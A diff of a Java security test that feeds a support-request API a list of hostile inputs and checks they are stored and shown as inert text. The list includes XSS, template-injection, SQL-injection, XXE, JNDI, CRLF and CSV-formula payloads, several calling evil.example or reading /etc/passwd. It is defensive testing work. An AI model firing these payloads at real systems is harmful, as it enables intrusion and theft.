@@ -7,6 +7,7 @@ import com.fasterxml.jackson.databind.ObjectMapper;
 import com.fasterxml.jackson.databind.node.ObjectNode;
 import java.net.URLEncoder;
 import java.nio.charset.StandardCharsets;
+import java.util.ArrayList;
 import java.util.HashMap;
 import java.util.List;
 import java.util.Locale;
@@ -25,74 +26,85 @@ class WritingHostileText extends Attack {
     /** 7 times 191: found on a page where somebody has reckoned. */
     private static final String RECKONED = "139622501";
 
+    private static final String BETWEEN = " \n";
+    private static final int SUMMARY = 200;
+
+    private static final List<String> TEXTS = List.of(
+            "<script>alert(1)</script>",
+            "<ScRiPt src=//evil.example/x.js></sCrIpT>",
+            "</script><script>alert(1)</script>",
+            "</textarea><script>alert(1)</script>",
+            "</title><svg onload=alert(1)>",
+            "\"><img src=x onerror=alert(1)>",
+            "' onmouseover='alert(1)' x='",
+            "\" autofocus onfocus=\"alert(1)",
+            "<a href=\"javascript:alert(1)\">here</a>",
+            "[here](javascript:alert(1))",
+            "![x](https://evil.example/pixel.png)",
+            "<iframe srcdoc=\"<script>alert(1)</script>\">",
+            "<style>*{background:url(//evil.example)}</style>",
+            "<base href=//evil.example>",
+            "<meta http-equiv=refresh content=\"0;url=//evil.example\">",
+            "<form action=//evil.example><input name=password>",
+            "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
+            "<!--><script>alert(1)</script>-->",
+            "&lt;script&gt;alert(1)&lt;/script&gt;",
+            "<div hx-get=\"/logout\" hx-trigger=\"load\">",
+            "{{73*1912637}} {{constructor.constructor('alert(1)')()}}",
+            "[[${73*1912637}]] [(${73*1912637})]",
+            "__${73*1912637}__::.x",
+            "~{::content} ~{layout :: page(1,2)}",
+            "*{73*1912637} #{login.title} @{/logout}",
+            "${73*1912637} ${T(java.lang.Runtime).getRuntime().exec('id')}",
+            "#{73*1912637} #{T(java.lang.System).exit(1)}",
+            "${jndi:ldap://evil.example/x} ${env:PATH}",
+            "= 73*1912637",
+            "\", 73*1912637, \"",
+            "if true then 73*1912637 else 0",
+            "function(x) external {java: {class: \"java.lang.Math\", \"method signature\": \"max(int, int)\"}}",
+            "<#assign x=73*1912637>${x} <%= 73*1912637 %> #set($x=73*1912637)$x",
+            "'; drop table support_request; --",
+            "' or '1'='1",
+            "\\'; select pg_sleep(9); --",
+            "1 union select password_ from act_id_user",
+            "%00%0d%0aSet-Cookie: x=1",
+            "a\r\nBcc: all@evil.example\r\n\r\nbody",
+            "=cmd|' /C calc'!A0",
+            "@SUM(1+1)*cmd|' /C calc'!A0",
+            "../../../../etc/passwd",
+            "{\"@class\":\"org.springframework.context.support.ClassPathXmlApplicationContext\"}",
+            "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]><a>&b;</a>",
+            "\u200bzero\u200dwidth\ufeff",
+            "👩‍💻 障害 Störung العربية",
+            "%s%n%x {0} {} ${}");
+
     @Autowired
     ObjectMapper json;
 
-    static Stream<String> texts() {
-        return Stream.of(
-                "<script>alert(1)</script>",
-                "<ScRiPt src=//evil.example/x.js></sCrIpT>",
-                "</script><script>alert(1)</script>",
-                "</textarea><script>alert(1)</script>",
-                "</title><svg onload=alert(1)>",
-                "\"><img src=x onerror=alert(1)>",
-                "' onmouseover='alert(1)' x='",
-                "\" autofocus onfocus=\"alert(1)",
-                "<a href=\"javascript:alert(1)\">here</a>",
-                "[here](javascript:alert(1))",
-                "![x](https://evil.example/pixel.png)",
-                "<iframe srcdoc=\"<script>alert(1)</script>\">",
-                "<style>*{background:url(//evil.example)}</style>",
-                "<base href=//evil.example>",
-                "<meta http-equiv=refresh content=\"0;url=//evil.example\">",
-                "<form action=//evil.example><input name=password>",
-                "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
-                "<!--><script>alert(1)</script>-->",
-                "&lt;script&gt;alert(1)&lt;/script&gt;",
-                "<div hx-get=\"/logout\" hx-trigger=\"load\">",
-                "{{73*1912637}} {{constructor.constructor('alert(1)')()}}",
-                "[[${73*1912637}]] [(${73*1912637})]",
-                "__${73*1912637}__::.x",
-                "~{::content} ~{layout :: page(1,2)}",
-                "*{73*1912637} #{login.title} @{/logout}",
-                "${73*1912637} ${T(java.lang.Runtime).getRuntime().exec('id')}",
-                "#{73*1912637} #{T(java.lang.System).exit(1)}",
-                "${jndi:ldap://evil.example/x} ${env:PATH}",
-                "= 73*1912637",
-                "\", 73*1912637, \"",
-                "if true then 73*1912637 else 0",
-                "function(x) external {java: {class: \"java.lang.Math\", \"method signature\": \"max(int, int)\"}}",
-                "<#assign x=73*1912637>${x} <%= 73*1912637 %> #set($x=73*1912637)$x",
-                "'; drop table support_request; --",
-                "' or '1'='1",
-                "\\'; select pg_sleep(9); --",
-                "1 union select password_ from act_id_user",
-                "%00%0d%0aSet-Cookie: x=1",
-                "a\r\nBcc: all@evil.example\r\n\r\nbody",
-                "=cmd|' /C calc'!A0",
-                "@SUM(1+1)*cmd|' /C calc'!A0",
-                "../../../../etc/passwd",
-                "{\"@class\":\"org.springframework.context.support.ClassPathXmlApplicationContext\"}",
-                "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]><a>&b;</a>",
-                "\u200bzero\u200dwidth\ufeff",
-                "👩‍💻 障害 Störung العربية",
-                "%s%n%x {0} {} ${}");
+    /** As many at a time as a summary holds: an escaping that lets one of them through lets it through beside others. */
+    static List<String> texts() {
+        List<String> together = new ArrayList<>();
+        for (String text : TEXTS) {
+            int last = together.size() - 1;
+            String grown = last < 0 ? text : together.get(last) + BETWEEN + text;
+            if (last < 0 || grown.length() > SUMMARY) {
+                together.add(text);
+            } else {
+                together.set(last, grown);
+            }
+        }
+        return together;
     }
 
     @ParameterizedTest
     @MethodSource("texts")
     void isKeptAndShownAsTextWhereARequestIsOpened(String text) throws JsonProcessingException {
         ObjectNode body = (ObjectNode) json.readTree(Api.OPEN.formatted("SUB-E3"));
-        body.put("summary", oneLine(text)).put("description", text).put("topic", oneLine(text));
-        String before = stored();
+        body.put("summary", oneLine(text)).put("description", text).put("topic", oneLine(text.split(BETWEEN)[0]));
 
         Api.Answer opened = api.post(VICTIM, "/api/requests", json.writeValueAsString(body));
 
-        if (opened.status() != 201) {
-            assertThat(opened.status()).as(opened.body()).isEqualTo(422);
-            assertThat(stored()).isEqualTo(before);
-            return;
-        }
+        assertThat(opened.status()).as(opened.body()).isEqualTo(201);
         assertThat(opened.<String>read("$.summary")).isEqualTo(oneLine(text));
         assertThat(opened.<String>read("$.description")).isEqualTo(text);
         assertInert(opened.read("$.number"), text);
@@ -232,8 +244,10 @@ class WritingHostileText extends Attack {
     }
 
     private static void assertNoMarkup(String page, String text) {
-        if (text.contains("<")) {
-            assertThat(page).doesNotContain(text).doesNotContain(text.toLowerCase(Locale.ROOT));
+        for (String written : text.split(BETWEEN)) {
+            if (written.contains("<")) {
+                assertThat(page).doesNotContain(written).doesNotContain(written.toLowerCase(Locale.ROOT));
+            }
         }
         assertThat(page)
                 .doesNotContain(
